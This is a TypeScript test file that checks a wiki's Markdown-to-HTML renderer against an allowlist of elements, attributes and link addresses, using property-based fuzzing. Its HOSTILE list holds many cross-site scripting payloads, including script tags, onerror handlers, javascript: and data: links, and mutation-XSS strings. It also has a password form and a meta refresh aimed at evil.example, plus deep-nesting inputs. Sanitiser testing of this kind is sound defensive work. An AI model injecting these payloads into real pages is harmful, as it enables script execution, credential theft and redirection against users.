import * as fc from 'fast-check';
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, it } from 'vitest';
import { renderPage } from '../../../server/content/render-page.ts';
import { pageSource } from './page-source.ts';

type Node = DefaultTreeAdapterTypes.ChildNode;

const ELEMENTS = new Set(
  `a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6
  hr i input ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td
  tfoot th thead tr u ul var`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  `align checked class colspan data-at data-page disabled href id open rel rowspan start target type`.split(
    /\s+/,
  ),
);
/** Out of the wiki, to a page, or to a heading. */
const ADDRESS = /^(?:https?:\/\/|mailto:|\/\?page=|#h-)/i;

/** The elements, attributes and addresses a browser would find in the page that are none of the allowed. */
function unsafeParts(html: string): string[] {
  const unsafe: string[] = [];
  const open: Node[] = [...parseFragment(html).childNodes];
  for (let node = open.pop(); node; node = open.pop()) {
    if (!('tagName' in node)) {
      if (node.nodeName !== '#text') unsafe.push(node.nodeName);
      continue;
    }
    if (!ELEMENTS.has(node.tagName)) unsafe.push(node.tagName);
    for (const { name, value } of node.attrs) {
      if (!ATTRIBUTES.has(name)) unsafe.push(name);
      if (name === 'href' && !ADDRESS.test(value)) unsafe.push(value);
      if (name === 'id' && !value.startsWith('h-')) unsafe.push(value);
    }
    open.push(...node.childNodes);
  }
  return unsafe;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  'a <script>alert(1)</script> b',
  '<script\n\n>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '[x](javascript:alert(1)) <a href="javascript:alert(1)">x</a> <a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a> ![x](data:text/html;base64,aaaa)',
  '<a href="//evil.example">x</a> <a href="/api/stats">x</a> [x](/\\evil.example) <vbscript:x>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<h1 id="root" name="body">x</h1><a id=location name=cookie href="https://a.example">x</a>',
  '# <a id="root"></a>__proto__',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template><plaintext>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?x <img onerror=alert(1)>?>',
  '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=x>',
  '<div class="page-link"><a class="page-link" data-page="x" href="/?page=x">x</a></div>',
  '<a class="yt-timestamp" data-t="1:05" onclick=alert(1) href="javascript:alert(1)">[1:05]</a>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '&lt;img src=x onerror=alert(1)&gt; &#1;&#xFDD0;&#xFDD0;&#xFDD0;&#xFDD0;',
];

describe('a hostile page', () => {
  it.each(HOSTILE)('brings nothing into the app but text and its own links: %s', (markdown) => {
    expect(unsafeParts(renderPage(pageSource(markdown, [], { videoId: 'x"&y' })))).toEqual([]);
    const nested = pageSource(`> - ${markdown}\n\n| ${markdown} |\n|---|\n`);
    expect(unsafeParts(renderPage(nested))).toEqual([]);
  });

  it('shows neither scripts and styles nor what stands in drawings', () => {
    const html = renderPage(
      pageSource('<script>one</script>\n\n<style>two</style>\n\n<svg><text>three</text></svg>\n\nfour'),
    );
    expect(html).not.toMatch(/one|two|three/);
    expect(html).toContain('four');
  });

  it('cannot forge the app’s own links or the places of its links', () => {
    const forged =
      '<a class="page-link" data-page="x" href="/?page=x">x</a> \u0001\ufdd0\ufdd0\ufdd0\ufdd0 &#1;&#xFDD0;&#xFDD0;&#xFDD0;&#xFDD0;';
    const html = renderPage(pageSource(`${forged} [[a]]`, [{ at: '[[a]]', target: 'a' }]));
    expect(html.match(/data-page/g)).toHaveLength(1);
    expect(html.match(/<a /g)).toHaveLength(1);
  });

  it('is safe whatever the import says of its links', () => {
    const html = renderPage(
      pageSource('[[a]] [b](b) ![c](c) [[d]]', [
        { at: '[[a]]', target: 'javascript:alert(1)', kind: 'external' },
        { at: '[b](b)', target: 'data:text/html,x', kind: 'external' },
        { at: '![c](c)', target: '"><img src=x onerror=alert(1)>', kind: 'attachment', relation: 'embed' },
        { at: '[[d]]', target: '__proto__\ud800', label: '<img src=x onerror=alert(1)>' },
      ]),
    );
    expect(unsafeParts(html)).toEqual([]);
    expect(html).toContain('href="/?page=__proto__%EF%BF%BD"');
  });

  it('closes what it leaves open within its own block', () => {
    expect(renderPage(pageSource('<b>bold <i>both\n\nplain </i></b>'))).toBe(
      '<p><b>bold <i>both</i></b></p><p>plain </p>',
    );
  });

  it('may fold details around Markdown', () => {
    expect(
      renderPage(pageSource('<details><summary>More</summary>\n\n**text**\n\n</details>\n\nafter')),
    ).toMatch(
      /^<details><summary>More<\/summary>\s*<p><strong>text<\/strong><\/p><\/details>\s*<p>after<\/p>$/,
    );
  });

  it.each([
    ['quotes', '>'.repeat(20_000)],
    ['lists', '- '.repeat(20_000)],
    ['both', '> - '.repeat(20_000)],
    ['indented lists', Array.from({ length: 400 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n')],
    ['emphasis', `${'*'.repeat(20_000)}a${'*'.repeat(20_000)}`],
  ])('nested without end in %s is shown as plain text', (_, markdown) => {
    const html = renderPage(pageSource(`${markdown} a <b>`));
    expect(html).toContain('<p class="render-note">');
    expect(html).toContain('<pre class="plain-page">');
    expect(html).toContain('a &#x3C;b>');
  });

  it('nested without end in HTML loses the deepest tags alone', () => {
    const html = renderPage(pageSource(`${'<b><div><span><q>'.repeat(800)}deep`));
    expect(html).toContain('deep');
    expect(unsafeParts(html)).toEqual([]);
  });

  it('that is too long is shown as plain text', () => {
    const html = renderPage(pageSource(`---\nsecret: 1\n---\n${'word '.repeat(200_000)}<b>`));
    expect(html).toContain('<pre class="plain-page">word word');
  });

  it('cannot grow beyond measure by repeating a long address', () => {
    const html = renderPage(
      pageSource(`${'[x] '.repeat(50_000)}\n\n[x]: https://a.example/${'y'.repeat(1900)}\n`),
    );
    expect(html.length).toBeLessThan(1_000_000);
    expect(html).toContain('<p class="render-note">');
  });

  it('of any pieces in any order is safe', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...HOSTILE,
        '[[a]]',
        '[t](a.md)',
        '<a href="https://a.example">',
        '</a>',
        '<b>',
        '</b>',
      ),
      fc.constantFrom(
        '\n',
        '\n\n',
        '> ',
        '- ',
        '    ',
        '`',
        '```\n',
        '*',
        '**',
        '|',
        '|-|-|\n',
        '<',
        '>',
        '"',
        '\\',
        '#',
        '%%',
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const links = [
          { at: '[[a]]', target: 'a' },
          { at: '[t](a.md)', target: 'b' },
        ];
        const html = renderPage(pageSource(pieces.join(''), links, { videoId: 'v' }));
        expect(unsafeParts(html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('with noise between them keeps every link the import found outside code and HTML', () => {
    const noise = fc.constantFrom(
      ' ',
      '*',
      '**',
      '_',
      '~~',
      '\n',
      '\n\n- ',
      '\n> ',
      ' é東🚀 ',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(noise, { maxLength: 20 }), (pieces) => {
        const html = renderPage(pageSource(`${pieces.join('x[[a]]x')}`, [{ at: '[[a]]', target: 'a' }]));
        expect(html.match(/data-page="a"/g)?.length ?? 0).toBe(Math.max(pieces.length - 1, 0));
      }),
    );
  });
});
